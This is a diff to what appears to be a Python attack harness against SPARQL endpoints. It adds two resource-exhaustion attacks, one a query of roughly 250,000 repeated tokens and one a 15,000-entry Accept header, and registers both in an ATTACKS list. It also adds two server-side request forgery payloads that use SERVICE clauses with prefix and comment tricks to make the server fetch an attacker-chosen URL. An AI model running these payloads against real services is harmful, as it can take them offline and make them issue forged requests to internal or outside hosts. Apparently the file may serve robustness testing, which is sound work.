@@ -144,6 +144,17 @@ def deep(target: Target) -> int:
     return target.query(text)
 
 
+def wordy(target: Target) -> int:
+    """As long a query as is taken, of as many words as it can have, with a forbidden one at the end."""
+    return target.query("ASK {" + random.choice(["1+", "a:b ", "() "]) * 250_000 + "SERVICE<x:>{}}")
+
+
+def long_headers(target: Target) -> int:
+    """A list of formats as long as headers may be."""
+    accept = ",".join(f"a/b;q=0.{n}" for n in range(15_000))
+    return target.ask("GET", "/sparql?query=ASK%7B%7D", None, {"Accept": accept})
+
+
 def slow_reader(target: Target) -> int:
     """Asks for much and reads it byte by byte."""
     query = quote(f"SELECT * {{ {CROSS} }} #{random.random()}")
@@ -209,6 +220,8 @@ def forgery(target: Target) -> int:
         lambda: target.query(f"SELECT * {{ SERVICE <{bait}> {{ ?s ?p ?o }} }}"),
         lambda: target.query(f"SELECT * {{ SERVICE SILENT <{bait}> {{ ?s ?p ?o }} }}"),
         lambda: target.query(f"SELECT * {{ VALUES ?g {{ <{bait}> }} SERVICE ?g {{ ?s ?p ?o }} }}"),
+        lambda: target.query(f"PREFIX x: <{bait}> ASK {{ SERVICEx: {{ ?s ?p ?o }} }}"),
+        lambda: target.query(f"ASK {{ FILTER(1<2#>'''\n) SERVICE<{bait}> {{ ?s ?p ?o }} #'''\n}}"),
         lambda: target.query(f"SELECT * FROM <{bait}> {{ ?s ?p ?o }}"),
         lambda: target.ask("POST", "/update", urlencode({"update": f"LOAD <{bait}>"}), FORM),
         lambda: target.ask("POST", "/update", urlencode({"update": f"LOAD SILENT <{bait}>"}), FORM | TOKEN),
@@ -250,6 +263,8 @@ ATTACKS = (
     huge_query,
     huge_chunks,
     deep,
+    wordy,
+    long_headers,
     slow_reader,
     slow_writer,
     broken_chunks,
